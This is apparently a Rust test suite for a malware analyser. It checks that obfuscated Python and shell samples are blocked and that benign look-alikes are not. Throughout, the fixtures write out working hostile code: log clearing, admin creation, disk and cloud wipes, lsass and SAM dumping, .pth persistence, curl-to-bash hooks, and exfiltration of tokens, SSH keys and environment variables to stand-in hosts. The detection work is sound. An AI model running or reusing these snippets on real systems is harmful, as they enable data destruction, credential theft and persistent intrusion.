//! Behaviour tests for the sixteenth round (what the held-out misses
//! showed: commands hidden behind helpers that take their words as star
//! arguments or decode them, disks written through the Win32 API, lsass
//! dumped, paths kept behind lambdas, start-up hooks put into every site
//! directory, environment variables collected into a dict, the metadata
//! address spelled in hex), spelled unlike the corpus, each with a control.
//! Every malicious case is misjudged by the analyser at 8ee649d.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// A runner taking its words as star arguments hides every command it
/// runs: each call's words are the command (8ee649d: MEDIUM).
#[test]
fn commands_given_to_a_star_argument_runner_are_judged() {
    let clean = r#"import subprocess
def sh(*words):
    return subprocess.check_output(words)
def tidy():
    sh("wevtutil", "cl", "Security")
    sh("auditpol", "/clear", "/y")
tidy()
"#;
    let a = run(clean);
    assert!(rules(&a).contains(&"MB923"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let admin = r#"import subprocess
def net(*argv):
    return subprocess.run(["net", *argv], capture_output=True)
def run_all(*argv):
    return subprocess.run(list(argv), capture_output=True)
run_all("net", "localgroup", "Administrators", "helpdesk", "/add")
"#;
    let a = run(admin);
    assert!(rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same runner asked only to read (a log queried, the group listed)
/// changes nothing.
#[test]
fn reading_commands_given_to_a_star_argument_runner_are_no_tampering() {
    let read = r#"import subprocess
def sh(*words):
    return subprocess.check_output(words)
print(sh("wevtutil", "qe", "System", "/c:5"))
print(sh("net", "localgroup", "Administrators"))
"#;
    let a = run(read);
    assert!(!rules(&a).contains(&"MB923"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Program names spelled as shifted character codes, or decoded by a
/// helper of the script's own from the codes it is called with, are the
/// programs (8ee649d: MEDIUM).
#[test]
fn commands_spelled_in_character_codes_are_judged() {
    let shifted = r#"import subprocess
prog = "".join(chr(n + 1) for n in [113, 108])
subprocess.run([prog, "-rf", "/"])
"#;
    let a = run(shifted);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    let helper = r#"import subprocess
def unpack(*nums):
    return "".join([chr(n) for n in nums])
TOOL = unpack(0x76, 0x73, 0x73, 0x61, 0x64, 0x6d, 0x69, 0x6e)
JOBS = [[TOOL, "delete", "shadows", "/all", "/quiet"]]
for job in JOBS:
    subprocess.call(job)
"#;
    let a = run(helper);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same disguises spelling commands that only list are harmless.
#[test]
fn listing_commands_spelled_in_character_codes_are_no_destruction() {
    let list = r#"import subprocess
def unpack(*nums):
    return "".join([chr(n) for n in nums])
TOOL = unpack(0x76, 0x73, 0x73, 0x61, 0x64, 0x6d, 0x69, 0x6e)
prog = "".join(chr(n + 1) for n in [107, 114])
subprocess.call([TOOL, "list", "shadows"])
subprocess.call([prog, "-l", "/"])
"#;
    let a = run(list);
    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Words spread into a command from a decoded text, and a verb split out
/// of a string: a process created on another machine (8ee649d: LOW).
#[test]
fn words_spread_into_a_command_are_its_words() {
    let remote = r#"import base64, subprocess, sys
verb = base64.b64decode("cHJvY2VzcyBjYWxsIGNyZWF0ZQ==").decode().split()
for host in sys.argv[1:]:
    subprocess.run(["wmic", "/node:" + host, *verb, "C:\\Windows\\Temp\\svc.exe"])
"#;
    let a = run(remote);
    assert!(rules(&a).contains(&"MB954"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let query = r#"import subprocess, sys
verb = "os get caption".split()
for host in sys.argv[1:]:
    subprocess.run(["wmic", "/node:" + host, *verb])
"#;
    assert!(!rules(&run(query)).contains(&"MB954"));
}

/// lsass dumped through comsvcs.dll or ProcDump, the SAM hive saved:
/// logon secrets copied out (8ee649d: LOW).
#[test]
fn credential_stores_dumped_are_credential_theft() {
    let dump = r#"import subprocess
def pid_of(name):
    out = subprocess.run(["tasklist", "/fi", "imagename eq " + name], capture_output=True, text=True).stdout
    return out.split()[-5]
subprocess.run(["C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll,", "MiniDump", pid_of("lsass.exe"), "C:\\Users\\Public\\m.bin", "full"])
"#;
    let a = run(dump);
    assert!(rules(&a).contains(&"MB965"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let tools = r#"import os
os.system("procdump64.exe -accepteula -ma lsass.exe c:\\temp\\x.dmp")
os.system("reg save HKLM\\SAM c:\\temp\\s.hiv")
"#;
    let a = run(tools);
    assert!(rules(&a).contains(&"MB965"), "{:?}", a.findings);
}

/// A crashing program of one's own dumped, and the user's own registry
/// branch exported, take no one's secrets.
#[test]
fn own_program_dumps_and_user_registry_exports_are_no_theft() {
    let own = r#"import os
os.system("procdump64.exe -accepteula -ma myservice.exe c:\\dumps\\svc.dmp")
os.system("reg save HKCU\\Software\\MyApp c:\\backup\\myapp.hiv")
"#;
    let a = run(own);
    assert!(!rules(&a).contains(&"MB965"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A physical drive opened for writing through CreateFileW, and the raw
/// volume opened with `open`, are disks overwritten (8ee649d: MEDIUM).
#[test]
fn raw_disks_written_on_windows_are_destruction() {
    let api = r#"import ctypes
k = ctypes.WinDLL("kernel32")
h = k.CreateFileW("\\\\.\\PhysicalDrive1", 0x40000000, 0, None, 3, 0, None)
zero = ctypes.create_string_buffer(4096)
k.WriteFile(h, zero, 4096, None, None)
"#;
    let a = run(api);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let volume = "with open(r'\\\\.\\D:', 'r+b') as v:\n    v.write(bytes(512))\n";
    assert!(rules(&run(volume)).contains(&"MB907"));
}

/// The boot sector only read, and an ordinary file opened for writing,
/// destroy nothing.
#[test]
fn raw_disks_only_read_are_no_destruction() {
    let read = r#"import ctypes
k = ctypes.WinDLL("kernel32")
h = k.CreateFileW("\\\\.\\PhysicalDrive0", 0x80000000, 3, None, 3, 0, None)
buf = ctypes.create_string_buffer(512)
k.ReadFile(h, buf, 512, None, None)
log = k.CreateFileW("C:\\Temp\\report.txt", 0x40000000, 0, None, 2, 0, None)
"#;
    let a = run(read);
    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
}

/// Places kept behind lambdas, picked in a loop and emptied (8ee649d: LOW).
#[test]
fn trees_kept_behind_lambdas_and_deleted_are_destruction() {
    let wipe = r#"import os, shutil
PLACES = (lambda: "/var/" + "www", lambda: os.path.expanduser("~"))
for pick in PLACES:
    shutil.rmtree(pick(), ignore_errors=True)
"#;
    let a = run(wipe);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Build directories of the project kept behind lambdas are cleaned.
#[test]
fn build_directories_behind_lambdas_are_no_destruction() {
    let clean = r#"import shutil
PLACES = (lambda: "build", lambda: "dist")
for pick in PLACES:
    shutil.rmtree(pick(), ignore_errors=True)
"#;
    let a = run(clean);
    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A start-up hook that runs code (it connects out), written into each
/// site directory the interpreter reports (8ee649d: LOW).
#[test]
fn a_code_running_hook_in_every_site_directory_is_persistence() {
    let hook = r#"import os, site, sysconfig
def places():
    found = []
    for ask in (site.getsitepackages, lambda: [site.getusersitepackages()]):
        found.extend(ask())
    found.append(sysconfig.get_paths().get("platlib"))
    return list(dict.fromkeys(found))
for d in places():
    with open(os.path.join(d, "zz_speedup.pth"), "w") as fh:
        fh.write("import socket;socket.create_connection(('198.51.100.7', 9))\n")
"#;
    let a = run(hook);
    assert!(rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A `.pth` that only adds the project's source directory runs nothing.
#[test]
fn a_path_entry_in_every_site_directory_is_no_persistence() {
    let path = r#"import os, site
def places():
    found = []
    for ask in (site.getsitepackages, lambda: [site.getusersitepackages()]):
        found.extend(ask())
    return list(dict.fromkeys(found))
for d in places():
    with open(os.path.join(d, "myproject.pth"), "w") as fh:
        fh.write("/home/dev/myproject/src\n")
"#;
    let a = run(path);
    assert!(!rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Variables picked from a table into a dict bound empty, then posted:
/// tokens collected and sent (8ee649d: LOW).
#[test]
fn environment_variables_collected_into_a_dict_and_sent_are_flagged() {
    let bag = r#"import os, requests
KEYS = ("CI_JOB_TOKEN", "NPM_TOKEN", "TWINE_PASSWORD", "VAULT_TOKEN", "SLACK_BOT_TOKEN")
def gather():
    bag = {}
    for k in KEYS:
        if k in os.environ:
            bag[k] = os.environ[k]
    return bag
requests.post("https://stats.example.org/in", json={"run": gather()})
"#;
    let a = run(bag);
    assert!(rules(&a).contains(&"MB421"), "{:?}", a.findings);
    assert!(a.verdict >= Verdict::High);
}

/// One setting read into a dict that is sent is configuration.
#[test]
fn one_variable_put_into_a_sent_dict_is_configuration() {
    let one = r#"import os, requests
def gather():
    bag = {}
    bag["region"] = os.environ.get("APP_REGION", "eu")
    return bag
requests.post("https://stats.example.org/in", json=gather())
"#;
    let a = run(one);
    assert!(!rules(&a).contains(&"MB421"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// The metadata address spelled as hex numbers, asked for role
/// credentials (8ee649d: LOW).
#[test]
fn the_metadata_service_spelled_in_numbers_is_named() {
    let md = r#"import urllib.request
BASE = "http://" + ".".join(str(o) for o in [0xa9, 0xfe, 0xa9, 0xfe])
def role():
    return urllib.request.urlopen(BASE + "/latest/meta-data/iam/security-credentials/").read()
print(role())
"#;
    let a = run(md);
    assert!(rules(&a).contains(&"MB206"), "{:?}", a.findings);
    assert!(a.verdict >= Verdict::High);
}

/// A private address spelled the same way is no metadata service.
#[test]
fn a_private_address_spelled_in_numbers_is_no_metadata() {
    let lan = r#"import urllib.request
BASE = "http://" + ".".join(str(o) for o in [10, 0, 0, 0x1f])
print(urllib.request.urlopen(BASE + "/status").read())
"#;
    let a = run(lan);
    assert!(!rules(&a).contains(&"MB206"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Key folders and an upload address kept reversed and turned back by a
/// lambda of the script's own: keys read and sent (8ee649d: LOW).
#[test]
fn paths_reversed_by_a_lambda_are_the_paths() {
    let keys = r#"import requests
from pathlib import Path
back = lambda s: s[::-1]
for p in (Path.home() / back("hss.")).glob("id_*"):
    requests.put(back("ni/ten.elpmaxe.pu//:sptth") + p.name, data=p.read_bytes())
"#;
    let a = run(keys);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same lambda turning back the name of a folder of notes that are
/// only listed reads no secret.
#[test]
fn a_reversed_folder_only_listed_is_no_secret() {
    let notes = r#"from pathlib import Path
back = lambda s: s[::-1]
for p in (Path.home() / back("setoN")).glob("*.md"):
    print(p.name)
"#;
    let a = run(notes);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Every version of every object in every bucket the account lists
/// deleted: the history versioning kept is gone (8ee649d: LOW).
#[test]
fn every_object_version_of_every_bucket_deleted_is_a_cloud_wipe() {
    let purge = r#"import boto3
cli = boto3.client("s3")
for bucket in cli.list_buckets()["Buckets"]:
    name = bucket["Name"]
    listing = cli.list_object_versions(Bucket=name)
    for v in listing.get("Versions", []) + listing.get("DeleteMarkers", []):
        cli.delete_object(Bucket=name, Key=v["Key"], VersionId=v["VersionId"])
"#;
    let a = run(purge);
    assert!(rules(&a).contains(&"MB963"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Old versions picked by their age, as a retention job does, are no
/// wipe.
#[test]
fn old_object_versions_picked_by_age_are_retention() {
    let retain = r#"import boto3, datetime
cli = boto3.client("s3")
cut = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=90)
for bucket in cli.list_buckets()["Buckets"]:
    name = bucket["Name"]
    for v in cli.list_object_versions(Bucket=name).get("Versions", []):
        if not v["IsLatest"] and v["LastModified"] < cut:
            cli.delete_object(Bucket=name, Key=v["Key"], VersionId=v["VersionId"])
"#;
    let a = run(retain);
    assert!(!rules(&a).contains(&"MB963"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A hook script kept in a string whose subshell group prints the
/// environment over several lines into a pipe ending in curl: the
/// environment uploaded (8ee649d: LOW).
#[test]
fn the_environment_piped_out_of_a_subshell_group_is_exfiltration() {
    let hook = r##"HOOK = """#!/bin/bash
{ true; } && (
  printenv;
  cat ~/.netrc
) | xz | wget -q -O- --post-file=/dev/stdin https://collect.example.net/r
"""
open(".git/hooks/pre-push", "w").write(HOOK)
"##;
    let a = run(hook);
    assert!(rules(&a).contains(&"MB910"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A group of harmless facts (the kernel, the uptime) piped to curl is a
/// status report.
#[test]
fn harmless_facts_piped_out_of_a_subshell_group_are_no_exfiltration() {
    let report = r##"HOOK = """#!/bin/sh
(
  uname -a;
  uptime
) | curl -s --data-binary @- https://status.example.net/ping
"""
open("report.sh", "w").write(HOOK)
"##;
    let a = run(report);
    assert!(!rules(&a).contains(&"MB910"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A hook script the program decodes before writing it, which fetches a
/// script and runs it: judged like the same script kept as a literal
/// (8ee649d: LOW).
#[test]
fn a_decoded_script_written_out_is_judged_by_its_commands() {
    let hook = r##"import codecs, os
BODY = codecs.decode("#!/ova/fu\nphey -f uggcf://k.rknzcyr.pbz/v | onfu\n", "rot13")
path = os.path.expanduser("~/.git-templates/hooks/post-merge")
with open(path, "w") as fh:
    fh.write(BODY)
os.chmod(path, 0o755)
"##;
    let a = run(hook);
    assert!(rules(&a).contains(&"MB908"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A decoded hook that runs the project's own tests fetches nothing.
#[test]
fn a_decoded_script_running_local_commands_is_harmless() {
    let hook = r##"import codecs, os
BODY = codecs.decode("#!/ova/fu\nznxr grfg\n", "rot13")
with open(".git/hooks/pre-commit", "w") as fh:
    fh.write(BODY)
"##;
    let a = run(hook);
    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
}

/// Stages kept in a tuple and chained in a loop (`value = stage(value)`):
/// what one stage downloads reaches the next, which runs it (8ee649d:
/// MEDIUM).
#[test]
fn stages_chained_in_a_loop_pass_downloads_on() {
    let chain = r#"import subprocess, urllib.request
def pull(url):
    return urllib.request.urlopen(url).read().decode()
def act(line):
    return subprocess.run(line, shell=True)
PIPELINE = (pull, act)
def main(stages=PIPELINE):
    item = "https://orders.example.net/next"
    for stage in stages:
        item = stage(item)
main()
"#;
    let a = run(chain);
    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Stages chained the same way over a local file, none reaching the
/// network, run nothing that came from outside.
#[test]
fn stages_chained_in_a_loop_over_local_data_are_harmless() {
    let chain = r#"import json
def load(path):
    return open(path).read()
def parse(text):
    return json.loads(text)
def show(doc):
    print(doc.get("name"))
item = "settings.json"
for stage in (load, parse, show):
    item = stage(item)
"#;
    let a = run(chain);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}
